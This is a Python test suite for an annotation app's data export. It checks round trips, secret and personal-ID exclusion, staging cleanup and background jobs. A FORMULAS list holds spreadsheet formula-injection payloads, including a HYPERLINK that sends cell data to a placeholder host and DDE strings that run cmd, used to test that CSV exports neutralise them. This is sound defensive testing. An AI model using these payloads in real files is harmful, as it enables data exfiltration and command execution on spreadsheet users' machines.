import contextlib
import csv
import hashlib
import io
import json
import re
import subprocess
import sys
import threading
import zipfile
from dataclasses import replace
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from annotation.__main__ import main
from annotation.concepts import sync_concepts
from annotation.errors import InvalidInput
from annotation.export import (
    DOMINANT_COLUMNS,
    PERSONAL_COLUMNS,
    SECRET_COLUMNS,
    SKIPPED_TABLES,
    BackgroundExport,
    ExportRunning,
    ExportState,
    WriteFailed,
    export,
    export_archive,
)
from annotation.files import store_png
from annotation.people import throttle
from annotation.people.accounts import create_annotators, login_with_invite
from annotation.people.passwords import set_admin_password
from storage import iso

ROOT = Path(__file__).resolve().parents[2]


def _fill(db, data_dir):
    sync_concepts(db)
    set_admin_password(db, "an admin password")
    ((designer, token),) = create_annotators(db, 1, "designer", design_background=True)
    login_with_invite(db, token)
    rng = np.random.default_rng(3)
    sketch = store_png(data_dir, rng.integers(0, 256, (6, 6), dtype=np.uint8), folder="sketches")
    db["sketches"].insert(
        {
            "base": "apple",
            "path": sketch.path,
            "sha256": sketch.sha256,
            "source": "test",
            "selected": 1,
            "created": iso(),
        }
    )
    db["sketches"].insert(
        {
            "base": "dog",
            "path": "sketches/gone.png",
            "sha256": "1" * 64,
            "source": "test",
            "selected": 0,
            "created": iso(),
        }
    )
    image = store_png(data_dir, rng.integers(0, 256, (6, 6, 3), dtype=np.uint8))
    mask = store_png(data_dir, rng.integers(0, 2, (6, 6)).astype(bool), folder="masks")
    coloring = (
        db["colorings"]
        .insert(
            {
                "annotator_id": designer["id"],
                "concept_key": "rotten apple",
                "sketch_id": 1,
                "image_path": image.path,
                "image_sha256": image.sha256,
                "mask_path": mask.path,
                "mask_sha256": "0" * 64,
                "practice": 0,
                "round": 1,
                "status": "submitted",
                "seconds_spent": 93.5,
                "created": iso(),
            }
        )
        .last_pk
    )
    db["coloring_distributions"].insert(
        {"coloring_id": coloring, "p": json.dumps([1 / 71] * 71), "method": "test", "created": iso()}
    )
    return token, {sketch.path: sketch.sha256, image.path: image.sha256}


def _frames(folder, kind):
    def read(path):
        if kind == "parquet":
            return pd.read_parquet(path)
        return pd.read_csv(path, dtype=str, keep_default_na=False)

    return {p.stem: read(p) for p in (folder / kind).iterdir()}


def test_export_round_trips_every_table_and_every_image(tmp_path, db):
    data_dir = tmp_path / "data"
    token, files = _fill(db, data_dir)
    summary = export(db, data_dir, tmp_path / "out")
    tables = set(db.table_names()) - set(SKIPPED_TABLES)
    assert set(summary.rows) == tables
    assert summary.rows["concepts"] == 1278 and summary.rows["colorings"] == 1
    assert summary.images == {"ok": 2, "missing": 1, "sha256_mismatch": 1}
    assert summary.files == 2
    parquet, csvs = _frames(tmp_path / "out", "parquet"), _frames(tmp_path / "out", "csv")
    assert set(parquet) == set(csvs) == tables
    for name in tables:
        stored = pd.read_sql_query(f'select * from "{name}"', db.conn, dtype_backend="numpy_nullable").drop(
            columns=[*SECRET_COLUMNS, *PERSONAL_COLUMNS.get(name, ())], errors="ignore"
        )
        pd.testing.assert_frame_equal(parquet[name], stored, check_dtype=False)
        as_text = stored.astype("string").fillna("").astype(object)
        names = [f"{c}{suffix}" for c in DOMINANT_COLUMNS for suffix in ("_name", "_basic")]
        pd.testing.assert_frame_equal(
            csvs[name].drop(columns=names, errors="ignore"), as_text, check_dtype=False
        )
    assert json.loads(csvs["coloring_distributions"]["p"][0]) == [1 / 71] * 71
    assert csvs["colorings"]["seconds_spent"].tolist() == ["93.5"]
    with zipfile.ZipFile(tmp_path / "out" / "images.zip") as archive:
        manifest = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
        assert sorted(set(archive.namelist()) - {"manifest.csv"}) == sorted(files)
        for path, sha in files.items():
            assert hashlib.sha256(archive.read(path)).hexdigest() == sha
    statuses = {(m["table"], m["column"], m["status"]) for m in manifest}
    assert statuses == {
        ("sketches", "path", "ok"),
        ("sketches", "path", "missing"),
        ("colorings", "image_path", "ok"),
        ("colorings", "mask_path", "sha256_mismatch"),
    }


def test_export_leaves_secrets_out(tmp_path, db):
    data_dir = tmp_path / "data"
    token, _ = _fill(db, data_dir)
    export(db, data_dir, tmp_path / "out")
    content = b"".join(p.read_bytes() for p in (tmp_path / "out").rglob("*") if p.is_file())
    hashes = [r["token_hash"] for r in db["invites"].rows] + [r["token_hash"] for r in db["sessions"].rows]
    assert hashes and all(hashes)
    secrets_ = [token, db["settings"].get("admin_password_hash")["value"], *hashes]
    assert not any(s.encode() in content for s in secrets_)


def test_export_refuses_a_folder_that_holds_files_and_writes_nothing(tmp_path, db):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    with pytest.raises(InvalidInput, match="must be new or empty"):
        export(db, tmp_path, tmp_path / "out")
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["keep.txt"]
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")] == []
    # A file where the folder should be is called a file (it was said to hold files: outside probe 123).
    with pytest.raises(InvalidInput, match=r"must be new or empty, got .*keep.txt'.*, which is a file$"):
        export(db, tmp_path, tmp_path / "out" / "keep.txt")


def test_a_half_written_export_of_a_killed_writer_is_removed_by_the_next_one_and_a_live_ones_kept(
    tmp_path, db
):
    """A SIGKILLed export or backup left its hidden staging folder (a backup's holds every
    hash) beside the target, and nothing ever removed it (outside probe 150)."""
    target = tmp_path / "out"
    stage = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "from annotation.export import staged_folder\n"
        "with staged_folder(Path(sys.argv[1]), 'export') as staging:\n"
        "    (staging / 'half.csv').write_text('a,b')\n"
        "    print(staging.name, flush=True)\n"
        "    os.kill(os.getpid(), signal.SIGKILL if sys.argv[2] == 'kill' else signal.SIGSTOP)\n"
    )

    def staged(how: str) -> tuple[subprocess.Popen, str]:
        child = subprocess.Popen(
            [sys.executable, "-c", stage, str(target), how],
            stdout=subprocess.PIPE,
            text=True,
            cwd=Path(__file__).resolve().parents[2],
        )
        return child, child.stdout.readline().strip()

    killed, dead_name = staged("kill")
    assert killed.wait() == -9 and (tmp_path / dead_name / "half.csv").is_file()
    stopped, live_name = staged("stop")  # a writer still at work, held stopped
    try:
        export(db, tmp_path, target)
        assert not (tmp_path / dead_name).exists()
        assert (tmp_path / live_name / "half.csv").is_file()
        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".out-")) == [live_name]
    finally:
        stopped.kill()
        stopped.wait()


def test_export_archive_is_one_zip_of_the_export(tmp_path, db):
    _fill(db, tmp_path / "data")
    archive = export_archive(db, tmp_path / "data", tmp_path / "downloads" / "export.zip")
    with zipfile.ZipFile(archive) as z:
        names = set(z.namelist())
    assert {"csv/colorings.csv", "parquet/colorings.parquet", "images.zip"} <= names
    assert [p.name for p in (tmp_path / "downloads").iterdir()] == ["export.zip"]


def test_command_line_export_writes_the_folder(tmp_path, db, capsys):
    _fill(db, tmp_path / "data")
    db_path = tmp_path / "a.sqlite"
    assert (
        main(["--db", str(db_path), "--data-dir", str(tmp_path / "data"), "export", str(tmp_path / "cli")])
        == 0
    )
    said = capsys.readouterr().out
    assert re.fullmatch(
        r"exported \d+ tables \([\d,]+ rows\) and 2 files in images\.zip to .+/cli; its manifest\.csv lists "
        r"the tables' 4 references to files \(1 missing, 1 with another sha256: not in the zip\)\n",
        said,
    ), said
    assert (tmp_path / "cli" / "parquet" / "concepts.parquet").is_file()
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "annotation",
            "--db",
            str(tmp_path / "none.sqlite"),
            "export",
            str(tmp_path / "x"),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 2 and "no database at" in result.stderr
    # An option argparse refuses is one line too, not its usage block first (outside probe 236).
    with pytest.raises(SystemExit) as refused:
        main(["--db", str(db_path), "export"])
    assert refused.value.code == 2
    assert capsys.readouterr().err == (
        "python -m annotation export: error: the following arguments are required: folder "
        "(python -m annotation export --help lists the options)\n"
    )


def test_export_csvs_name_each_uw71_bin_and_ship_the_bin_names(tmp_path, db):
    row = {
        "source": "designers",
        "run": "r1",
        "model": "m",
        "concept": "apple",
        "style": "natural",
        "cfg": 7.5,
    }
    row |= {"pcc": 0.5, "emd": 3.0, "ed": 0.1, "dominant_human": 49, "dominant_model": 24, "hue_diff": None}
    db["scores"].insert(row | {"model_created": iso(), "human_updated": iso()})
    export(db, tmp_path / "data", tmp_path / "out")
    scores = _frames(tmp_path / "out", "csv")["scores"]
    at = list(scores.columns).index("dominant_human")
    assert list(scores.columns[at : at + 6]) == [
        "dominant_human",
        "dominant_human_name",
        "dominant_human_basic",
        "dominant_model",
        "dominant_model_name",
        "dominant_model_basic",
    ]
    assert scores.loc[0, ["dominant_human_name", "dominant_human_basic"]].tolist() == ["vivid red", "red"]
    assert scores.loc[0, ["dominant_model_name", "dominant_model_basic"]].tolist() == ["black", "black"]
    assert "dominant_human_name" not in _frames(tmp_path / "out", "parquet")["scores"].columns
    names = pd.read_csv(tmp_path / "out" / "uw71_names.csv")
    assert list(names.columns) == ["color_index", "hex", "iscc_nbs_l3", "iscc_nbs_l1", "basic_term"]
    assert names["color_index"].tolist() == list(range(71))


FORMULAS = [
    '=HYPERLINK("http://x"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_export_csvs_neutralise_spreadsheet_formulas_and_keep_numbers_numbers(tmp_path, db):
    from storage import audit

    data_dir = tmp_path / "data"
    _fill(db, data_dir)
    for note in FORMULAS:
        audit.record(db, "expert-1", "request_recolor", "coloring", 1, note)
    db.execute("update colorings set seconds_spent = -93.5")
    db.conn.commit()
    export(db, data_dir, tmp_path / "out")
    with open(tmp_path / "out" / "csv" / "audit.csv", newline="", encoding="utf-8") as f:
        notes = [row["why"] for row in csv.DictReader(f) if row["action"] == "request_recolor"]
    assert notes == ["'" + note for note in FORMULAS]
    colorings = pd.read_csv(tmp_path / "out" / "csv" / "colorings.csv")
    assert colorings["seconds_spent"].tolist() == [-93.5]
    parquet = pd.read_parquet(tmp_path / "out" / "parquet" / "audit.parquet")
    assert parquet["why"].tolist()[-len(FORMULAS) :] == FORMULAS  # typed: kept as they are


# --- The background export (issue 28): the app starts it and polls --------------------


def _connect(path):
    from storage import open_db

    return lambda: contextlib.closing(open_db(path))


def _zip_contents(archive) -> dict[str, bytes]:
    """Every member of an export zip, the inner images.zip opened member by member (its
    entries carry the time they were written)."""
    with zipfile.ZipFile(archive) as z:
        contents = {name: z.read(name) for name in z.namelist() if name != "images.zip"}
        with zipfile.ZipFile(io.BytesIO(z.read("images.zip"))) as images:
            contents |= {f"images.zip/{name}": images.read(name) for name in images.namelist()}
    return contents


def _gated_build(gate: threading.Event, entered: threading.Event):
    """An export build that waits for `gate` before it writes anything."""

    def build(db, data_dir, archive, *, progress, **options):
        entered.set()
        assert gate.wait(60), "the test never opened the gate"
        return export_archive(db, data_dir, archive, progress=progress, **options)

    return build


def test_a_background_export_returns_at_once_refuses_a_second_and_ends_with_the_synchronous_zip(tmp_path, db):
    data_dir = tmp_path / "data"
    _fill(db, data_dir)
    gate, entered = threading.Event(), threading.Event()
    jobs = BackgroundExport(
        _connect(tmp_path / "a.sqlite"),
        data_dir,
        target=lambda now: tmp_path / "exports" / f"{now}.zip",
        build=_gated_build(gate, entered),
    )
    assert jobs.state() == ExportState()
    started = jobs.start(now="first")
    assert started.status == "running" and started.started == "first" and started.archive is None
    assert entered.wait(60)
    with pytest.raises(ExportRunning, match=r"already being built \(started first, 0% done\)"):
        jobs.start(now="second")
    assert jobs.state().running and not (tmp_path / "exports").exists()
    gate.set()
    done = jobs.wait(60)
    assert done.status == "done" and done.fraction == 1.0 and done.error is None
    assert done.archive == tmp_path / "exports" / "first.zip"
    assert [p.name for p in (tmp_path / "exports").iterdir()] == ["first.zip"]
    synchronous = export_archive(db, data_dir, tmp_path / "sync" / "export.zip")
    assert _zip_contents(done.archive) == _zip_contents(synchronous)
    # Once it is done, another may start.
    assert jobs.start(now="third").running
    assert jobs.wait(60).archive == tmp_path / "exports" / "third.zip"


def test_a_background_export_with_a_lost_image_says_what_its_zip_lacks(tmp_path, db):
    from app.admin import _export_line

    data_dir = tmp_path / "data"
    _fill(db, data_dir)  # one sketch gone, one mask whose recorded sha256 is another's
    jobs = BackgroundExport(_connect(tmp_path / "a.sqlite"), data_dir, target=lambda now: tmp_path / "e.zip")
    jobs.start(now="first")
    state = jobs.wait(60)
    assert state.status == "done" and state.images == {"ok": 2, "missing": 1, "sha256_mismatch": 1}
    # The zip was ready with files absent, unsaid (outside probe 123).
    assert _export_line(state) == (
        "The export started first is ready below. **Its images.zip lacks 2 file(s) the rows name**: 1 missing "
        "from the data folder and 1 whose bytes differ from their recorded sha256; its manifest.csv names each "
        "(status column); an earlier backup's files/ folder may hold them."
    )
    with (
        zipfile.ZipFile(state.archive) as outer,
        zipfile.ZipFile(io.BytesIO(outer.read("images.zip"))) as inner,
    ):
        manifest = inner.read("manifest.csv").decode()
    assert manifest.count(",missing") == 1 and manifest.count(",sha256_mismatch") == 1
    assert _export_line(replace(state, images={"ok": 2})) == "The export started first is ready below."


def test_a_background_export_reports_its_steps_in_order(tmp_path, db):
    _fill(db, tmp_path / "data")
    seen = []

    def build(db_, data_dir, archive, *, progress, **options):
        def spy(step, done, total):
            progress(step, done, total)
            seen.append((step, jobs.state().fraction))

        return export_archive(db_, data_dir, archive, progress=spy, **options)

    jobs = BackgroundExport(
        _connect(tmp_path / "a.sqlite"), tmp_path / "data", target=lambda now: tmp_path / "e.zip", build=build
    )
    jobs.start(now="2026-11-26T12:00:00.000000Z")
    state = jobs.wait(60)
    steps = list(dict.fromkeys(step for step, _ in seen))
    assert steps == ["tables", "images", "archive"]
    fractions = [f for _, f in seen]
    assert fractions == sorted(fractions) and fractions[-1] == 1.0
    assert state.status == "done" and state.archive == tmp_path / "e.zip"


@pytest.mark.parametrize(
    "error, message",
    [
        (WriteFailed("could not write the export to 'x': No space left on device"), "No space left"),
        (RuntimeError("/secret/path"), r"failed unexpectedly \(RuntimeError\)"),
    ],
)
def test_a_failed_background_export_says_why_and_another_may_start(tmp_path, db, error, message):
    def build(db_, data_dir, archive, *, progress, **options):
        raise error

    jobs = BackgroundExport(
        _connect(tmp_path / "a.sqlite"), tmp_path / "data", target=lambda now: tmp_path / "e.zip", build=build
    )
    jobs.start(now="t")
    failed = jobs.wait(60)
    assert failed.status == "failed" and failed.archive is None
    assert re.search(message, failed.error) and "/secret/path" not in failed.error
    jobs.start(now="again")
    assert jobs.wait(60).status == "failed"


def _crowd(db, data_dir):
    """A frozen study with an open link and two crowd participants with platform ids."""
    from annotation.people.accounts import Actor
    from annotation.study import crowd
    from annotation.study import design as study
    from tests.study_data import populate, sources, truth_source

    admin = Actor(None, "admin", frozenset({"admin"}))
    truths, _ = populate(db, data_dir, 6, np.random.default_rng(0))
    study_id = study.create_study(
        db, "crowd", sources(), truth_source(data_dir, truths), seed=1, n_concepts=2, trials_per_participant=4
    )
    study.open_study(db, study_id, admin)
    _, token = crowd.create_link(db, study_id, admin, quota=5, completion_code="DONE", screenout_code="OUT")
    for n in (1, 2):
        query = {"PROLIFIC_PID": f"PIDXQ{n}ZZ", "STUDY_ID": f"STUDYQQ{n}", "SESSION_ID": f"SESSZZ{n}"}
        crowd.join(db, token, query, address=f"203.0.113.7{n}")


def _all_text(archive: Path) -> str:
    """Every member of an export zip as text: CSVs as they are, Parquet files as the CSV of
    their rows, the inner images.zip member by member (raw bytes as latin-1)."""
    texts = []
    with zipfile.ZipFile(archive) as outer:
        for name in outer.namelist():
            data = outer.read(name)
            if name.endswith(".parquet"):
                texts.append(pd.read_parquet(io.BytesIO(data)).to_csv())
            elif name.endswith(".zip"):
                with zipfile.ZipFile(io.BytesIO(data)) as inner:
                    texts += [inner.read(n).decode("latin-1") for n in inner.namelist()]
            else:
                texts.append(data.decode("latin-1"))
            texts.append(name)
    return "\n".join(texts)


PERSONAL = ("PIDXQ1ZZ", "PIDXQ2ZZ", "STUDYQQ1", "SESSZZ2", "203.0.113.71", "203.0.113.72", "198.51.100.9")


def test_an_export_holds_no_external_id_unless_asked_and_then_one_table_of_them(tmp_path, db):
    data_dir = tmp_path / "data"
    _crowd(db, data_dir)
    throttle.record_failure(db, "198.51.100.9", "invite")  # kept on the address, for the throttle
    plain = export_archive(db, data_dir, tmp_path / "plain" / "export.zip")
    text = _all_text(plain)
    assert [value for value in PERSONAL if value in text] == []
    with zipfile.ZipFile(plain) as archive:
        people = pd.read_csv(io.BytesIO(archive.read("csv/crowd_participants.csv")))
        audit = pd.read_csv(io.BytesIO(archive.read("csv/audit.csv")))
        assert "csv/crowd_external_ids.csv" not in archive.namelist()
    failed = audit[audit["action"] == throttle.ACTION]
    assert failed[["object_type", "object_id"]].values.tolist() == [["address", "withheld"]]
    assert people["status"].tolist() == ["active", "active"]  # the table stays, its personal columns go
    assert not {"external_id", "platform_study_id", "platform_session_id", "address"} & set(people.columns)

    jobs = BackgroundExport(
        _connect(tmp_path / "a.sqlite"), data_dir, target=lambda now: tmp_path / f"{now}.zip"
    )
    assert jobs.start(now="with", external_ids=True).external_ids
    done = jobs.wait(60)
    assert done.status == "done" and done.external_ids
    assert "198.51.100.9" not in _all_text(done.archive)  # platform ids only: never an address
    with zipfile.ZipFile(done.archive) as archive:
        ids = pd.read_csv(io.BytesIO(archive.read("csv/crowd_external_ids.csv")), dtype=str)
        parquet = pd.read_parquet(io.BytesIO(archive.read("parquet/crowd_external_ids.parquet")))
        people = pd.read_csv(io.BytesIO(archive.read("csv/crowd_participants.csv")))
    pseudonyms = [
        r["pseudonym"]
        for r in db.query(
            "select a.pseudonym from crowd_participants c join annotators a on a.id = c.annotator_id order by c.started"
        )
    ]
    assert ids.values.tolist() == [
        [pseudonyms[0], "1", "PIDXQ1ZZ", "STUDYQQ1", "SESSZZ1", "active"],
        [pseudonyms[1], "1", "PIDXQ2ZZ", "STUDYQQ2", "SESSZZ2", "active"],
    ]
    assert (
        list(ids.columns)
        == list(parquet.columns)
        == ["participant", "link_id", "external_id", "platform_study_id", "platform_session_id", "status"]
    )
    assert "external_id" not in people.columns  # only the table asked for names them
    assert "203.0.113.71" not in _all_text(done.archive)  # the address is never exported
    assert jobs.start(now="without").external_ids is False
    assert "PIDXQ1ZZ" not in _all_text(jobs.wait(60).archive)


@pytest.mark.parametrize("command", ["export", "backup"])
@pytest.mark.parametrize("inside", ["sketches/bk", "exports/x", "downloads/backups/y", "z", "."])
def test_the_command_line_refuses_a_backup_or_export_inside_the_served_data_folder(
    tmp_path, db, command, inside, capsys
):
    """The app serves parts of the data folder to signed-in people; a backup there (every
    account and hash) or an export would be fetched by them. Nothing is written."""
    data_dir = tmp_path / "data"
    (data_dir / "sketches").mkdir(parents=True)
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    target = data_dir / inside
    argv = ["--db", str(tmp_path / "a.sqlite"), "--data-dir", str(data_dir), command, str(target)]
    assert main(argv) == 2
    error = capsys.readouterr().err.strip()
    assert error == (
        f"error: the folder {str(target.resolve())!r} lies inside the data folder {str(data_dir.resolve())!r}, "
        "parts of which the app serves to signed-in people (colorings/, sketches/, runs/, exports/, "
        "downloads/); write it outside the data folder"
    )
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    # Beside the data folder it is written.
    assert main([*argv[:-1], str(tmp_path / f"{command}-outside")]) == 0
    assert any((tmp_path / f"{command}-outside").iterdir())


def test_the_command_line_export_adds_external_ids_only_with_its_option(tmp_path, db):
    data_dir = tmp_path / "data"
    _crowd(db, data_dir)
    base = ["--db", str(tmp_path / "a.sqlite"), "--data-dir", str(data_dir), "export"]
    assert main([*base, str(tmp_path / "plain")]) == 0
    assert not (tmp_path / "plain" / "csv" / "crowd_external_ids.csv").exists()
    plain = "\n".join(p.read_text("latin-1") for p in (tmp_path / "plain" / "csv").glob("*.csv"))
    assert [value for value in PERSONAL if value in plain] == []
    assert main([*base, "--external-ids", str(tmp_path / "asked")]) == 0
    ids = pd.read_csv(tmp_path / "asked" / "csv" / "crowd_external_ids.csv", dtype=str)
    assert sorted(ids["external_id"]) == ["PIDXQ1ZZ", "PIDXQ2ZZ"]


def test_the_command_line_refuses_a_db_that_is_not_sqlite_and_writes_nothing_beside_it(tmp_path, capsys):
    png = tmp_path / "notdb.png"
    png.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    assert (
        main(["--db", str(png), "--data-dir", str(tmp_path / "data"), "export", str(tmp_path / "out")]) == 2
    )
    assert capsys.readouterr().err == f"error: --db {str(png)!r} is not an SQLite database\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notdb.png"]


def test_the_command_line_refuses_a_mistyped_path_or_id_and_writes_nothing(tmp_path, db, capsys):
    """Outside probe 200: `set-admin-password` with a mistyped --db made a new database and
    said "admin password changed"; an export with a data folder that does not exist wrote
    its folder with every image missing; a 23-digit study id ended in a traceback."""
    _fill(db, tmp_path / "data")
    db_path = str(tmp_path / "a.sqlite")
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdin", io.StringIO("longenough-pw\n"))
        assert main(["--db", str(tmp_path / "nope" / "b.sqlite"), "set-admin-password", "--stdin"]) == 2
    assert (
        capsys.readouterr().err
        == f"error: no database at {str(tmp_path / 'nope' / 'b.sqlite')!r} (give --db PATH)\n"
    )
    for command in ("export", "backup"):
        assert (
            main(["--db", db_path, "--data-dir", str(tmp_path / "nodata"), command, str(tmp_path / "x")]) == 2
        )
        assert capsys.readouterr().err == (
            f"error: --data-dir {str(tmp_path / 'nodata')!r} does not exist; give the study's data folder (the "
            "app's --data-dir)\n"
        )
    for argv in (
        ["close-study", "9" * 23, "--why", "x"],
        ["erase-platform-ids", "P0001", "--link", "1e3", "--why", "x"],
    ):
        with pytest.raises(SystemExit) as refused:
            main(["--db", db_path, *argv])
        assert refused.value.code == 2
        assert re.fullmatch(
            r"python -m annotation (close-study|erase-platform-ids): error: argument (study|--link): must be a "
            r"whole number of at most 18 digits, got '(9{23}|1e3)' \(python -m annotation \1 --help lists the "
            r"options\)\n",
            capsys.readouterr().err,
        )
    assert sorted(p.name for p in tmp_path.iterdir()) == before
